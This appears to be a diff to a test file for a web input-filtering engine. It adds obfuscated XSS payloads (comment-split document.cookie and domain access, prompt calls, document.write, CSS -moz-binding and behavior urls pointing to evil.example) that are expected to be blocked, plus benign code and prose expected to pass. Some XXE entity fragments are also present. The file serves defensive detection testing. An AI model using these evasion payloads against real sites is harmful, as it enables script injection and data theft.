@@ -21,6 +21,15 @@ DOC = Context("document")
 XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
 
 ATTACKS: dict[str, tuple[str, Context, str]] = {
+    # JavaScript with no markup: block comments read as spaces, the object in parentheses
+    "cookie_read_split_by_comments": ("document/**/./* x */domain", QUERY, "xss"),
+    "window_call_split_by_comments": ("top /*a*/ [ /*b*/ 'prompt' ] (origin)", BODY, "xss"),
+    "write_split_by_a_comment": ("document/*-*/.write(location.hash)", HEADER, "xss"),
+    "parenthesised_document_domain": ("(document)['domain']", QUERY, "xss"),
+    "parenthesised_document_with_comment": ("( document /**/ ).cookie", BODY, "xss"),
+    # script in CSS wherever the value lands in a style
+    "moz_binding_declaration": ("color:red;-moz-binding: url('//evil.example/b.xml#x')", QUERY, "xss"),
+    "ie_behavior_declaration": ("behavior:url(/uploads/x.htc)", BODY, "xss"),
     # external entities and schemas
     "parameter_entity_without_angle": ("x!ENTITY % remote SYSTEM", QUERY, "xxe"),
     "general_entity_without_angle": ('!ENTITY ext PUBLIC "-//X//EN" "http://evil.example/x.dtd"', BODY, "xxe"),
@@ -47,6 +56,19 @@ def test_fresh12_shape_is_blocked(engine: Engine, name: str, value: str, ctx: Co
 
 
 BENIGN: dict[str, tuple[str, Context]] = {
+    # code snippets with block comments and parentheses
+    "commented_code": ("const n = items.length; /* cached */ return n * 2;", BODY),
+    "comment_about_cookies": ("/* read the cookie banner text */ banner.text()", BODY),
+    "jsdoc_block": ("/** @param {string} id */ function load(id) { return api.get(id); }", BODY),
+    "css_comment_in_style": ("/* brand */ color: #333; background: url(/img/bg.png)", BODY),
+    "glob_in_a_path": ("/srv/*/logs/*.txt", QUERY),
+    "document_in_prose": ("(document) attached; see the cookie policy", BODY),
+    "parenthesised_word": ("Sign the (document) and return it", QUERY),
+    "timer_in_code": ("setInterval(poll, 1000)", BODY),
+    # CSS that is not a binding or a behavior
+    "ordinary_declarations": ("color: red; background: url(https://cdn.example.com/a.png)", BODY),
+    "behaviour_in_prose": ("Expected behavior: url is kept", BODY),
+    "scroll_behavior": ("scroll-behavior: smooth", BODY),
     # XML that names its own schemas, prose about entities
     "maven_pom_head": ('<project xmlns="http://maven.apache.org/POM/4.0.0" ' + XSI + ' xsi:schemaLocation='
                        '"http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">', DOC),
